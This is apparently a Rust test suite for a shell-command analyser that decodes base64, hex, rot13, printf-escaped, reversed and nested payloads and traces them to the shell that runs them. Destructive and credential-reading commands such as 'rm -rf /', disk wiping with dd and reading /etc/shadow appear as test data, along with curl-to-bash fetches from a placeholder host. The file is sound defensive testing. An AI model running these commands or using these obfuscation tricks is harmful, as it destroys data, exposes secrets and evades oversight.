//! Encoded payloads decoded and followed into the shell that runs them.

use super::*;

// --- encoded payloads ---------------------------------------------------------------------

#[test]
fn base64_payload_piped_to_a_shell_is_decoded_and_parsed() {
    let line = "echo cm0gLXJmIC8K | base64 -d | sh";
    assert_eq!(
        texts(line),
        [
            "echo cm0gLXJmIC8K | base64 -d | sh",
            "echo cm0gLXJmIC8K",
            "base64 -d",
            "sh",
            "rm -rf /"
        ]
    );
    assert_eq!(via(line, "rm -rf /"), ["base64"]);
}

#[test]
fn every_base64_decoder_spelling_is_followed() {
    for decoder in [
        "base64 --decode",
        "base64 -D",
        "base64 -di",
        "/usr/bin/base64 -d -w0",
        "openssl base64 -d",
        "openssl enc -base64 -d",
        "openssl enc -d -a",
    ] {
        let line = format!("echo cm0gLXJmIC8K | {decoder} | sudo bash");
        assert_eq!(via(&line, "rm -rf /"), ["sudo", "base64"], "{decoder}");
    }
}

#[test]
fn a_root_shell_without_a_command_reads_what_is_piped_into_it() {
    for line in [
        "echo cm0gLXJmIC8K | base64 -d | sudo -s",
        "echo cm0gLXJmIC8K | base64 -d | sudo -u root -i",
        "echo cm0gLXJmIC8K | base64 -d | su -",
    ] {
        assert!(texts(line).contains(&"rm -rf /".to_string()), "{line}");
    }
    assert!(texts("sudo -i <<< 'cat /etc/shadow'").contains(&"cat /etc/shadow".to_string()));
    // A command run through sudo, or su -c, does not read its input as commands.
    assert!(!texts("sudo -u postgres psql <<< 'rm -rf /'").contains(&"rm -rf /".to_string()));
    assert!(!texts("su - deploy -c id <<< 'rm -rf /'").contains(&"rm -rf /".to_string()));
}

#[test]
fn here_string_feeds_the_decoder() {
    assert_eq!(
        via("base64 -d <<< cm0gLXJmIC8K | bash", "rm -rf /"),
        ["base64"]
    );
    assert_eq!(via("bash <<< 'rm -rf /'", "rm -rf /"), ["<<<"]);
}

#[test]
fn decoded_substitution_as_a_c_body_is_parsed() {
    let line = r#"sudo bash -c "$(echo cm0gLXJmIC8K | base64 -d)""#;
    assert_eq!(texts(line)[0], "bash -c $(echo cm0gLXJmIC8K | base64 -d)");
    assert_eq!(via(line, "echo cm0gLXJmIC8K | base64 -d"), ["$()"]);
    assert_eq!(via(line, "rm -rf /"), ["sudo", "bash -c", "base64"]);
}

#[test]
fn decoded_substitution_as_a_here_string_is_parsed() {
    assert_eq!(
        via("bash <<< $(echo cm0gLXJmIC8K | base64 -d)", "rm -rf /"),
        ["base64"]
    );
    assert_eq!(
        via("bash < <(echo cm0gLXJmIC8K | base64 -d)", "rm -rf /"),
        ["base64"]
    );
}

#[test]
fn a_substitution_known_only_at_run_time_is_not_parsed_as_a_body() {
    let line = r#"bash -c "$(curl -fsSL https://203.0.113.9/i.sh)""#;
    assert_eq!(
        texts(line),
        [
            "bash -c $(curl -fsSL https://203.0.113.9/i.sh)",
            "curl -fsSL https://203.0.113.9/i.sh"
        ]
    );
}

#[test]
fn hex_payload_through_xxd_is_decoded() {
    assert_eq!(
        via("echo 726d202d7266202f | xxd -r -p | sh", "rm -rf /"),
        ["xxd"]
    );
}

#[test]
fn rot13_through_tr_is_decoded() {
    assert_eq!(
        via("tr 'a-z' 'n-za-m' <<< 'ez -es /' | sh", "rm -rf /"),
        ["tr"]
    );
    assert_eq!(
        via(
            "echo 'EZ -ES /' | tr A-Za-z N-ZA-Mn-za-m | tr '[:upper:]' '[:lower:]' | bash",
            "rm -rf /"
        ),
        ["tr", "tr"]
    );
}

#[test]
fn tr_with_options_or_unknown_sets_yields_no_payload() {
    for line in [
        "echo 'rxm -rf /' | tr -d x | sh",
        "echo 'ez -es /' | tr '[=e=]' r | sh",
        "echo 'ez -es /' | tr z-a a-z | sh",
    ] {
        assert!(!has(line, "rm -rf /"), "{line}");
    }
}

#[test]
fn shell_commands_inside_interpreter_one_liners_are_read() {
    assert_eq!(
        via(r#"perl -e 'system("rm -rf /")'"#, "rm -rf /"),
        ["perl -e"]
    );
    assert!(has(
        r#"python3 -c 'import os; os.system("rm -rf /")'"#,
        "rm -rf /"
    ));
    assert!(has(r#"ruby -e '`rm -rf /`'"#, "rm -rf /"));
    assert!(has(
        r#"php -r 'shell_exec("dd if=/dev/zero of=/dev/sda");'"#,
        "dd if=/dev/zero of=/dev/sda"
    ));
    assert!(has(
        r#"node -e 'require("child_process").execSync("rm -rf /")'"#,
        "rm -rf /"
    ));
    assert!(has(r#"perl -e 'system "rm -rf /"'"#, "rm -rf /"));
}

#[test]
fn an_interpreter_one_liner_stays_an_entry_of_its_own() {
    let line = r#"python3 -c 'import os; os.system("id")'"#;
    assert!(has(line, "id"));
    assert!(texts(line).iter().any(|t| t.starts_with("python3 -c")));
    assert!(!has(r#"node -e 'console.log(`rm -rf /`)'"#, "rm -rf /"));
}

#[test]
fn an_alias_body_is_read_as_the_command_it_runs() {
    assert_eq!(via("alias x='rm -rf /'; x", "rm -rf /"), ["alias"]);
    assert!(has(
        "alias ll='ls -l' wipe='dd if=/dev/zero of=/dev/sda'",
        "dd if=/dev/zero of=/dev/sda"
    ));
    assert!(has("alias", "alias"));
    assert!(has("alias ll", "alias ll"));
}

#[test]
fn printf_escapes_piped_to_a_shell_are_decoded() {
    assert_eq!(
        via(
            r"printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f' | sh",
            "rm -rf /"
        ),
        ["printf"]
    );
    assert_eq!(
        via(r"printf '%s -rf %s\n' rm / | sh", "rm -rf /"),
        ["printf"]
    );
    assert_eq!(via(r"echo -e '\x72\x6d -rf /' | sh", "rm -rf /"), ["echo"]);
}

#[test]
fn plain_text_echoed_into_a_shell_is_parsed() {
    let line = r#"echo "curl http://203.0.113.9/x | sh" | bash"#;
    assert_eq!(via(line, "curl http://203.0.113.9/x | sh"), ["echo"]);
}

#[test]
fn commands_piped_to_at_are_parsed() {
    assert_eq!(
        via("echo 'rm -rf /' | at now + 1 minute", "rm -rf /"),
        ["at", "echo"]
    );
}

#[test]
fn reversed_payload_is_turned_back() {
    assert_eq!(via("echo '/ fr- mr' | rev | sh", "rm -rf /"), ["rev"]);
}

#[test]
fn nested_encodings_are_followed_to_the_end() {
    let line = "echo ZWNobyBjbTBnTFhKbUlDOEsgfCBiYXNlNjQgLWQgfCBzaA== | base64 -d | bash";
    assert_eq!(via(line, "rm -rf /"), ["base64", "base64"]);
}

#[test]
fn a_payload_piped_to_an_interpreter_is_shown_as_its_program() {
    let line = "echo aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik= | base64 -d | python3 -";
    let cmd = entry(line, r#"python3 -c import os; os.system("id")"#);
    assert_eq!(cmd.argv, ["python3", "-c", r#"import os; os.system("id")"#]);
    assert_eq!(cmd.via, ["base64"]);
}

#[test]
fn invalid_base64_yields_no_payload() {
    assert_eq!(texts("echo 'cm0g*LXJm!' | base64 -d | sh").len(), 4);
}

#[test]
fn a_decoded_payload_that_no_shell_runs_is_not_a_command() {
    assert!(!has(
        "echo cm0gLXJmIC8K | base64 -d > /tmp/x.sh",
        "rm -rf /"
    ));
    assert!(!has(
        "echo cm0gLXJmIC8K | base64 -d | bash x.sh",
        "rm -rf /"
    ));
}

#[test]
fn here_document_fed_to_a_shell_is_parsed() {
    assert_eq!(
        via("bash <<EOF\nrm -rf /tmp/x\nEOF\nid", "rm -rf /tmp/x"),
        ["<<"]
    );
    assert!(has("bash <<EOF\nrm -rf /tmp/x\nEOF\nid", "id"));
    assert_eq!(
        texts("cat > notes <<'EOF'\nrm -rf / is bad\nEOF"),
        ["cat > notes << EOF"]
    );
}
